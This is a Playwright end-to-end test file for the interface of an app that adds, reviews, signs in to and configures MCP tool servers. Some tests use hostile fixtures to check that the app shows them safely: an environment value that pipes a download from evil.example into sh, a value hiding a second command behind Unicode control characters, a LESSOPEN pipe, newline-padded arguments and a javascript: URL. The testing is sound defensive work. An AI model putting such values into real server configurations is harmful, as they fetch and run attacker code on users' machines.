import { describe, expect, it } from 'vitest'
import { soon, useStage } from './stage.ts'

/** Servers from the outside in: adding, looking, signing in, renaming, and the settings around them. */
describe('servers', () => {
  const stage = useStage()
  const { show, button, commands, focused } = stage
  const dialog = () => stage.page.getByRole('dialog')
  // Messages about what is done are dialogs too, and stay longer.
  const closed = () =>
    dialog().getByRole('button', { name: 'Cancel', exact: true }).waitFor({ state: 'detached' })

  it('asks before Back takes what was filled in away', async () => {
    await show('busy', '/access')
    await stage.page.getByRole('link', { name: /^Tools/ }).click()
    await button('Add a server').click()
    await dialog().getByLabel('Command').fill('npx -y notes')
    await stage.page.goBack()
    await stage.page.getByText('Throw away what you filled in?').waitFor()
    await button('Go on filling in').click()
    expect(await dialog().getByLabel('Command').inputValue()).toBe('npx -y notes')
    expect(stage.page.url()).toContain('#/tools')
    await stage.page.goBack()
    await button('Throw it away').click()
    await dialog().getByLabel('Command').waitFor({ state: 'detached' })
    expect(stage.page.url()).toContain('#/tools')
  })

  it('keeps what is filled in where tray or notification gives the window an address', async () => {
    const { page, host } = stage
    await show('approval', '/tools')
    await button('Decide later').click()
    await button('Add a server').click()
    const line = dialog().getByLabel('Command')
    await line.fill('npx -y notes')
    await page.goto(`${host.url}#/access`)
    await page.getByText('Throw away what you filled in?').waitFor()
    await button('Go on filling in').click()
    expect(await line.inputValue()).toBe('npx -y notes')
    expect(page.url()).toContain('#/tools')
    // The question that it leads to is over the page, and over what is filled in there.
    await page.goto(`${host.url}#/waiting/a1`)
    await button('Don’t allow').click()
    await page.getByRole('alertdialog').waitFor({ state: 'detached' })
    expect(await line.inputValue()).toBe('npx -y notes')
    await page.goto(`${host.url}#/access`)
    await button('Throw it away').click()
    await line.waitFor({ state: 'detached' })
    // Nothing that was pressed before swallows what is pressed now.
    await page.goto(`${host.url}#/access`)
    await page.getByRole('heading', { name: 'Access', exact: true }).waitFor()
    await page.goBack()
    await page.getByRole('heading', { name: 'Tools', exact: true }).waitFor()
  })

  it('stays where Back asks, also after a reload of an address that was given', async () => {
    const { page, host } = stage
    await show('busy', '/')
    await page.goto(`${host.url}#/access`)
    await page.getByRole('heading', { name: 'Access', exact: true }).waitFor()
    await page.goto(`${host.url}#/tools`)
    await page.getByRole('heading', { name: 'Tools', exact: true }).waitFor()
    await page.reload()
    await button('Add a server').click()
    await dialog().getByLabel('Command').fill('npx -y notes')
    await page.evaluate(() => history.back())
    await button('Throw it away').click()
    await soon(() => expect(page.url()).toContain('#/tools'))
    await page.goBack()
    await page.getByRole('heading', { name: 'Access', exact: true }).waitFor()
  })

  it('keeps the keyboard in the dialog where a value is taken out with its button', async () => {
    await show('busy', '/tools')
    await button('Add a server').click()
    await button('Add a value').click()
    await button('Remove this value').focus()
    await stage.page.keyboard.press('Enter')
    await soon(async () =>
      expect(await stage.page.evaluate(() => document.activeElement?.localName)).toBe('fieldset'),
    )
    await stage.page.keyboard.press('Tab')
    expect(await stage.focused()).toContain('Add a value')
    await stage.page.keyboard.press('Escape')
  })

  it('asks before Esc throws away what was only chosen, or taken out', async () => {
    const asks = async () => {
      await stage.page.keyboard.press('Escape')
      await button('Go on filling in').click()
    }
    await show('busy', '/tools')
    await button('Add a server').click()
    await dialog().getByText('More options').click()
    await dialog().getByRole('combobox').first().click()
    await stage.page.getByRole('option').last().click()
    await asks()
    await show('busy', '/tools')
    await button('Add a server').click()
    await button('Add a value').click()
    await button('Remove this value').click()
    await asks()
  })

  it('leads to the values, the tools and the limits that a sentence says are wrong', async () => {
    const { page } = stage
    const ledTo = (text: string) =>
      soon(async () => {
        const sentence = page.getByText(text)
        const { isIn, isSeen } = await sentence.evaluate((element) => {
          const { top, bottom } = element.getBoundingClientRect()
          const at = document.elementFromPoint(innerWidth / 2, (top + bottom) / 2)
          return {
            isIn: element.closest('fieldset, section')!.contains(document.activeElement),
            isSeen:
              at !== null && element.closest('[data-over-page]')!.contains(at) && bottom < innerHeight - 60,
          }
        })
        expect({ isIn, isSeen }).toEqual({ isIn: true, isSeen: true })
      })
    await show('busy', '/tools')
    await page.setViewportSize({ width: 1000, height: 420 })
    await button('Add a server').click()
    await dialog().getByLabel('Command').fill('npx -y notes')
    await button('Add a value').click()
    await dialog().getByPlaceholder('NAME').fill('NOT A NAME')
    await dialog().getByLabel('Name', { exact: true }).last().fill('Notes')
    await button('Add and run it').click()
    await ledTo('“NOT A NAME” cannot be a name')
    await show('busy', '/tools')
    await button('Add a workspace').click()
    await dialog().getByLabel('Name', { exact: true }).fill('Work')
    await button('Add the workspace').click()
    await ledTo('Choose at least one.')
    await show('connection')
    await page.getByLabel('Three digits').fill('123')
    await button('Change tools and end date').click()
    await page.getByRole('radio', { name: 'Only the tools I choose' }).check()
    await button('None').click()
    await button('Let it in').click()
    await ledTo('Choose at least one tool')
  })

  it('leads to what is wrong, and keeps the place of the keyboard while it is added', async () => {
    await show('busy', '/tools')
    await stage.page.setViewportSize({ width: 1000, height: 420 })
    await button('Add a server').click()
    const seen = (text: string | RegExp) =>
      dialog()
        .getByText(text)
        .evaluate((element) => {
          const { top, bottom } = element.getBoundingClientRect()
          const at = document.elementFromPoint(innerWidth / 2, (top + bottom) / 2)
          return at !== null && element.closest('[role=dialog]')!.contains(at) && bottom < innerHeight - 60
        })
    await dialog().getByLabel('Command').fill('npx -y notes')
    await dialog().getByLabel('Name', { exact: true }).fill('  ')
    await button('Add and run it').click()
    await soon(async () =>
      expect(await stage.page.evaluate(() => document.activeElement?.getAttribute('aria-invalid'))).toBe(
        'true',
      ),
    )
    await dialog().getByLabel('Name', { exact: true }).fill('Notes')
    const wrong = { code: 'busy', message: 'It could not be added.', hint: 'Try again.' }
    stage.host.world().failing['servers.add'] = wrong
    await button('Add and run it').click()
    await dialog().getByText('It could not be added.').waitFor()
    await soon(async () => expect(await seen('Try again.')).toBe(true))
    expect(await stage.focused()).toBe('Add and run it')
    stage.host.world().failing = {}
  })

  it('adds an address with a key, another header and what its provider gave', async () => {
    await show('busy', '/tools')
    await button('Add a server').click()
    await stage.page.getByRole('tab', { name: 'An address on the internet' }).click()
    await dialog().getByRole('textbox', { name: 'Address' }).fill('https://mcp.weather.example/sse')
    await dialog().getByLabel('Key, if it gave you one').fill('sk-1')
    await button('Add a header').click()
    await dialog().getByLabel('Name', { exact: true }).first().fill('X-Tenant')
    await dialog().getByLabel('Value of X-Tenant').fill('me')
    await dialog().getByText('More options').click()
    await dialog().getByLabel('It is one of the older kind').check()
    await dialog().getByLabel('Client secret').fill('s')
    await button('Add it').click()
    await dialog().getByText('The client ID is missing.').waitFor()
    expect(commands('servers.add')).toEqual([])
    await dialog().getByLabel('Client ID').fill('me')
    await button('Add it').click()
    await stage.page.getByRole('heading', { name: /^weather/ }).waitFor()
    expect(commands('servers.add')).toEqual([
      {
        kind: 'sse',
        name: 'weather',
        url: 'https://mcp.weather.example/sse',
        headers: { Authorization: 'Bearer sk-1', 'X-Tenant': 'me' },
        timeout: 30_000,
        oauth: { clientId: 'me', clientSecret: 's' },
      },
    ])
  })

  it('adds a program with a folder and a time limit', async () => {
    await show('busy', '/tools')
    await button('Add a server').click()
    await dialog().getByLabel('Command').fill('npx -y notes')
    await dialog().getByText('More options').click()
    await dialog().getByLabel('Folder to start it in').fill('notes')
    await button('Add and run it').click()
    await dialog().getByText('Give the full path').waitFor()
    await dialog().getByLabel('Folder to start it in').fill('/home/me/notes')
    await dialog()
      .getByRole('region', { name: 'This is exactly what will run' })
      .getByText('/home/me/notes')
      .waitFor()
    await stage.page.getByRole('combobox', { name: 'Time limit for one request' }).click()
    await stage.page.getByRole('option', { name: '2 minutes' }).click()
    await stage.page.getByRole('combobox', { name: 'Start limit' }).click()
    await stage.page.getByRole('option', { name: '5 minutes' }).click()
    await button('Add and run it').click()
    await closed()
    expect(commands('servers.add')).toMatchObject([
      { cwd: '/home/me/notes', timeout: 120_000, startTimeout: 300_000 },
    ])
  })

  it('leads to the sign-in after adding a server that wants one, opens it in the browser, and waits', async () => {
    await show('busy', '/tools')
    await stage.page
      .context()
      .route('https://accounts.notes.example/**', (route) =>
        route.fulfill({ contentType: 'text/html', body: '<title>Sign in</title>' }),
      )
    await button('Add a server').click()
    await stage.page.getByRole('tab', { name: 'An address on the internet' }).click()
    await dialog().getByRole('textbox', { name: 'Address' }).fill('https://notes.example/sign-in')
    await button('Add it').click()
    await stage.page.getByRole('heading', { level: 1, name: 'notes' }).waitFor()
    await stage.page.getByText('the sign-in page of accounts.notes.example').waitFor()
    const [opened] = await Promise.all([
      stage.page.context().waitForEvent('page'),
      button('Sign in to notes').click(),
    ])
    expect(opened.url() || (await opened.evaluate('location.href'))).toContain('accounts.notes.example')
    expect(await opened.evaluate('window.opener')).toBeNull()
    await opened.close()
    await stage.page.getByText('Waiting for you to sign in.').waitFor()
    const link = stage.page.getByRole('link', { name: 'Open the page again' })
    expect(await link.getAttribute('href')).toMatch(/^https:\/\/accounts\.notes\.example\/authorize/)

    const server = stage.host.world().servers.find((one) => one.name === 'notes')!
    Object.assign(server, { state: 'running', signIn: { ...server.signIn, state: 'signed-in', url: null } })
    stage.host.tell('servers.changed', {})
    await stage.page.getByText('Signed in with accounts.notes.example.').waitFor()
    await button('Sign out of notes').click()
    await stage.page.getByRole('alertdialog').getByRole('button', { name: 'Sign out' }).click()
    await button('Sign in to notes').waitFor()
    expect(commands('servers.signOut')).toEqual([{ id: server.id }])
  })

  it('offers no link to a sign-in page that is not https', async () => {
    await show('servers', '/tools/w2')
    const server = stage.host.world().servers.find((one) => one.id === 'w2')!
    server.signIn.url = 'javascript:alert(1)'
    stage.host.tell('servers.changed', {})
    await stage.page.getByText('Open this address in your browser').waitFor()
    expect(await stage.page.getByRole('link', { name: 'Open the page again' }).count()).toBe(0)
    await stage.page.getByText('javascript:alert(1)').waitFor()
  })

  it('a draft shows everything; Remove has the focus, Start sends what was seen', async () => {
    await show('drafts')
    await button('Look at Notebook').click()
    const asked = stage.page.getByRole('alertdialog')
    await soon(async () => expect(await focused()).toBe('Remove'))
    const run = asked.getByRole('region', { name: 'This is exactly what would run' })
    await run.getByText('⟨U+202E⟩').first().waitFor()
    await run.getByText('/home/me/My Notes').waitFor()
    const row = (name: string) =>
      run.locator('dd').filter({ has: stage.page.getByText(name, { exact: true }) })
    expect(await row('NOTEBOOK_TOKEN').innerText()).toBe('NOTEBOOK_TOKEN = •••••• (hidden)')
    expect(await row('PS4').innerText()).toBe('PS4 = $(curl https://evil.example/x|sh)')
    expect(await row('EVIL_KEY').innerText()).toBe('EVIL_KEY = harmless⟨U+202E⟩⟨U+200B⟩; $(evil)⟨U+E0041⟩')
    expect(await row('LESSOPEN').innerText()).toBe(`LESSOPEN = ${'Trust me. '.repeat(60)}|evil %s`)
    // What imitates a hidden value stands in the box of values, as text.
    expect(await row('MARKUP').locator('code').last().innerText()).toContain('<b>hidden</b>⟨U+000A⟩')
    expect(await row('MARKUP').locator('code').last().innerText()).toContain('•••••• (hidden)')
    expect(await row('NOTEBOOK_TOKEN').locator('code').count()).toBe(1)
    await run.getByText('all files and programs that you can reach').waitFor()
    await stage.page.keyboard.press('Escape')
    await asked.waitFor({ state: 'detached' })
    expect(stage.host.world().servers).toHaveLength(3)

    await button('Look at Notebook').click()
    await asked.evaluate((box) => box.scrollTo(0, box.scrollHeight))
    await button('Start it').click()
    await asked.waitFor({ state: 'detached' })
    expect(commands('servers.start')).toEqual([{ id: 'd1', seen: 'fingerprint-of-d1' }])

    await button('Look at Weather').click()
    await asked.getByText('weather.example.an-address-of-somebody-else.example', { exact: true }).waitFor()
    const far = asked.getByRole('region', { name: 'This is what it would connect to' })
    expect((await far.innerText()).replace(/\s+/g, ' ')).toContain(
      'signs in as weather-app asks for read asks for everything sends Authorization: Bearer •••••• (hidden) sends X-Tenant: somebody/else',
    )
    await button('Remove').click()
    await stage.page
      .getByRole('region', { name: 'Waiting for their first start' })
      .waitFor({ state: 'detached' })
    expect(commands('servers.remove')).toEqual([{ id: 'd2' }])
  })

  it('a draft whose values cannot be read cannot be started', async () => {
    await show('drafts')
    stage.host.world().servers.find((one) => one.id === 'd1')!.values = null
    stage.host.tell('servers.changed', {})
    await button('Look at Notebook').click()
    await stage.page.getByText('Its values cannot be read at the moment.').waitFor()
    await stage.page.getByRole('alertdialog').evaluate((box) => box.scrollTo(0, box.scrollHeight))
    await stage.page.getByText('nothing is left of it').waitFor()
    await stage.page.waitForTimeout(800)
    expect(await button('Start it').isDisabled()).toBe(true)
  })

  it('shows on every page what was done outside of it, until it is dismissed', async () => {
    await show('elsewhere', '/tools')
    await stage.page.getByText('A key “x” with “Everything” was made on the command line at 14:03.').waitFor()
    await stage.page.getByRole('link', { name: 'Activity' }).click()
    await stage.page.getByText('was allowed on the command line at 14:04.').waitFor()
    await button('Dismiss this notice').first().click()
    await soon(async () => expect(commands('notices.dismiss')).toEqual([{ id: 'e2' }]))
    await stage.page.getByText('A key “x”').waitFor()
  })

  it('a long draft can be started only after it was read to the end', async () => {
    await show('drafts')
    stage.host.world().servers.find((one) => one.id === 'd1')!.args = ['\n'.repeat(200), '--evil']
    stage.host.tell('servers.changed', {})
    await button('Look at Notebook').click()
    await stage.page.getByText('Read to the end to be able to start it.').waitFor()
    await stage.page.waitForTimeout(800)
    expect(await button('Start it').isDisabled()).toBe(true)
    await stage.page.getByRole('alertdialog').evaluate((box) => box.scrollTo(0, box.scrollHeight))
    await soon(async () => expect(await button('Start it').isDisabled()).toBe(false))
  })

  it('changes what runs and where it is, and keeps what is not touched', async () => {
    await show('servers', '/tools/w3')
    await button('Change…').click()
    const url = dialog().getByRole('textbox', { name: 'Address' })
    await soon(async () => expect(await url.evaluate((field) => field === document.activeElement)).toBe(true))
    const before = await url.inputValue()
    await dialog().getByText('With another address you have to sign in again.').waitFor()
    await url.fill('not an address')
    await button('Save').click()
    await dialog().getByText('Give an address that starts with').waitFor()
    expect(commands('servers.edit')).toEqual([])
    await url.fill(`${before}?v=2`)
    await dialog().getByLabel('Name', { exact: true }).last().fill('My tickets')
    await stage.page.keyboard.press('Enter')
    await closed()
    await stage.page.getByRole('heading', { level: 1, name: 'My tickets' }).waitFor()
    expect(commands('servers.edit')).toMatchObject([
      { id: 'w3', name: 'My tickets', url: `${before}?v=2`, headers: { 'X-Tenant': null } },
    ])

    await show('busy', '/tools/s1')
    await button('Change what runs…').click()
    await dialog().getByLabel('Command').fill('npx -y files')
    await button('Add a value').click()
    await dialog().getByLabel('Name', { exact: true }).first().fill('KEY')
    await dialog().getByLabel('Value of KEY').fill('typed')
    await button('Save').click()
    await closed()
    expect(commands('servers.edit').at(-1)).toMatchObject({ args: ['-y', 'files'], env: { KEY: 'typed' } })
  })

  it('starts, stops, checks and removes a server', async () => {
    await show('busy', '/tools')
    await stage.page.getByRole('link', { name: 'Details of Files' }).click()
    await stage.page.getByText('It usually answers in 12 ms').waitFor()
    await button('Check now').click()
    await button('Restart').click()
    await button('Stop').click()
    await stage.page.getByText('It is switched off.').waitFor()
    await button('Start').click()
    await stage.page.getByText('It works, and those').waitFor()
    await stage.page.getByRole('switch', { name: 'Serve its tools under their own names' }).click()
    await stage.page.getByRole('switch', { name: 'Let it know who is asking' }).click()
    await stage.page.getByRole('combobox', { name: 'Time limit' }).click()
    await stage.page.getByRole('option', { name: '1 minute' }).click()
    await stage.page.getByRole('combobox', { name: 'Start limit' }).click()
    await stage.page.getByRole('option', { name: '2 minutes' }).click()
    await soon(() =>
      expect(commands('servers.update')).toEqual([
        { id: 's1', prefixed: false },
        { id: 's1', passesClientContext: true },
        { id: 's1', timeout: 60_000 },
        { id: 's1', startTimeout: 120_000 },
      ]),
    )
    expect(commands('servers.start')).toEqual([{ id: 's1' }])
    await button('Remove this server…').click()
    await soon(async () => expect(await focused()).toBe('Keep it'))
    await stage.page.getByRole('alertdialog').getByRole('button', { name: 'Remove' }).click()
    await stage.page.getByRole('heading', { level: 1, name: 'Tools' }).waitFor()
    await stage.page.getByRole('heading', { name: /^Files/ }).waitFor({ state: 'detached' })
  })

  it('renames a tool, says who notices, and gives the usual name back', async () => {
    await show('busy', '/tools')
    await button('Rename Read a file').click()
    await dialog().getByText('MCP — ChatGPT, Home Assistant and A key').waitFor()
    const field = dialog().getByLabel('Name for assistants')
    await field.fill('read file')
    await stage.page.keyboard.press('Enter')
    await dialog().getByText('Use letters, digits, dashes and underscores').waitFor()
    await field.fill('files__list_directory')
    await stage.page.keyboard.press('Enter')
    await dialog().getByText('Another tool has this name already.').waitFor()
    await field.fill('open_file')
    await stage.page.keyboard.press('Enter')
    await closed()
    await stage.page.getByText('open_file', { exact: true }).waitFor()
    await button('Rename Read a file').click()
    await button('Give it back its usual name').click()
    await closed()
    expect(commands('tools.set').slice(1)).toEqual([
      { id: 'files__read_file', alias: 'open_file' },
      { id: 'files__read_file', alias: null },
    ])
  })

  it('says who still has an old list, and what to do there', async () => {
    await show('busy', '/access')
    await stage.page.getByText('Fetched its list of 12 tools').waitFor()
    await stage.page.getByText('press Refresh. Then start a new chat.').waitFor()
    stage.host.world().grants[0]!.served!.current = true
    stage.host.tell('grants.changed', {})
    await stage.page.getByText('press Refresh').waitFor({ state: 'detached' })
  })

  it('settings: limits one by one, and the key for programs shown once', async () => {
    await show('busy', '/settings')
    await stage.page.getByRole('combobox', { name: 'Requests of one app within a minute' }).click()
    await stage.page.getByRole('option', { name: 'No limit' }).click()
    await stage.page.getByRole('combobox', { name: 'Servers running at the same time' }).click()
    await stage.page.getByRole('option', { name: '20', exact: true }).click()
    await soon(() =>
      expect(commands('preferences.set')).toEqual([{ requestsPerMinute: null }, { maxServers: 20 }]),
    )
    await stage.page.getByRole('combobox', { name: 'Calls are kept for' }).click()
    await stage.page.getByRole('option', { name: 'A year' }).click()
    await soon(() => expect(commands('preferences.set').at(-1)).toEqual({ activityDays: 365 }))
    await button('Create a key').click()
    await stage.page.getByText('db_admin_a').first().waitFor()
    await stage.page.getByText(`${new URL(stage.host.url).origin}/api/v1`).waitFor()
    await button('I have copied it').click()
    await stage.page.getByText('Key, created today').waitFor()
    expect(await stage.page.getByText('db_admin_a').count()).toBe(0)
    await button('Remove…').click()
    await stage.page.getByRole('alertdialog').getByRole('button', { name: 'Remove the key' }).click()
    await stage.page.getByText('No program has a key').waitFor()
  })
})
